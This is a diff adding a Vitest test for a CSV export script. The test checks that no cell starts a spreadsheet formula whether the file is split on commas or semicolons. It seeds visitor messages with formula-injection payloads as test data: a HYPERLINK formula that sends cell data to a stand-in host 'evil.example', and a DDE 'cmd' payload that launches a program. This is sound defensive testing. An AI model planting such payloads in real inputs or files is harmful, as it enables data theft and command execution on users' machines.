@@ -1,0 +1,110 @@
+/**
+ * `npm run messages -- --csv` opened in a spreadsheet: in pt-BR (and much of Europe) a
+ * spreadsheet splits a CSV on `;`, not `,`. Whatever a stranger typed, no cell may start a
+ * formula however the file is split. Run as the real script on a real SQLite database.
+ */
+import { execFile } from 'node:child_process';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { openSqliteStore } from '../../../server/services/stores/sqlite-store.ts';
+
+const run = promisify(execFile);
+let dataDir: string;
+let csv: string;
+
+const HOSTILE = [
+  'Ana;=HYPERLINK("http://evil.example/?"&A1;"click")',
+  '=1+1',
+  "Olá; +cmd|' /C calc'!A0",
+  'a;"=2+2";b',
+  'x,-3+3,y',
+  '@SUM(1;2)',
+  'fim;\t=3+3',
+  'linha\n=4+4;\r-5',
+];
+
+beforeAll(async () => {
+  dataDir = mkdtempSync(join(tmpdir(), 'messages-csv-'));
+  const store = openSqliteStore(dataDir);
+  for (const [n, text] of HOSTILE.entries()) {
+    const { message } = await store.add({ name: text, email: `fan${n}@example.org`, message: text, lang: 'pt' }, n);
+    await store.markFailed(message.id, text, 0);
+  }
+  await store.close();
+  const { stdout } = await run(
+    process.execPath,
+    ['--disable-warning=ExperimentalWarning', 'scripts/messages.ts', '--csv'],
+    {
+      env: { ...process.env, DATA_DIR: dataDir },
+    },
+  );
+  csv = stdout;
+});
+afterAll(() => rmSync(dataDir, { recursive: true, force: true }));
+
+/**
+ * Splits CSV text as a spreadsheet would: `strict` opens a quoted field only at a field's
+ * start and takes what follows its closing quote literally; otherwise any quote toggles.
+ */
+function parse(text: string, delimiter: string, strict: boolean): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  let fieldStart = true;
+  for (let i = 0; i < text.length; i += 1) {
+    const char = text[i] ?? '';
+    if (quoted) {
+      if (char !== '"') cell += char;
+      else if (text[i + 1] === '"') {
+        cell += '"';
+        i += 1;
+      } else quoted = false;
+    } else if (char === '"' && (fieldStart || !strict)) {
+      quoted = true;
+    } else if (char === delimiter || char === '\n') {
+      row.push(cell);
+      cell = '';
+      if (char === '\n') {
+        rows.push(row);
+        row = [];
+      }
+      fieldStart = true;
+      continue;
+    } else if (char !== '\r' || text[i + 1] !== '\n') {
+      cell += char;
+    }
+    fieldStart = false;
+  }
+  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
+  return rows;
+}
+
+/** What a spreadsheet runs: a cell starting with = + - @, or a tab or CR before one. */
+const FORMULA = /^[\s"]*[=+\-@]/;
+
+describe('npm run messages -- --csv', () => {
+  it.each([
+    [',', true],
+    [',', false],
+    [';', true],
+    [';', false],
+  ])('split on %j (strict quotes: %s), starts no formula in any cell', (delimiter, strict) => {
+    const cells = parse(csv, delimiter, strict).flat();
+    expect(cells.length).toBeGreaterThan(HOSTILE.length);
+    for (const cell of cells) expect(FORMULA.test(cell), JSON.stringify(cell)).toBe(false);
+  });
+
+  it('quotes every cell, so split on "," each message reads back whole', () => {
+    const [header, ...rows] = parse(csv, ',', true);
+    expect(csv.split('\n')[0]).toMatch(/^"id","createdAt","name",/);
+    const name = header?.indexOf('name') ?? -1;
+    const texts = rows.map((row) => row[name]).reverse();
+    // Only an apostrophe is added where a formula could start; the rest is the visitor's text.
+    expect(texts.map((text) => text?.replaceAll("'", ''))).toEqual(HOSTILE.map((text) => text.replaceAll("'", '')));
+    expect(rows.every((row) => row.length === header?.length)).toBe(true);
+  });
+});
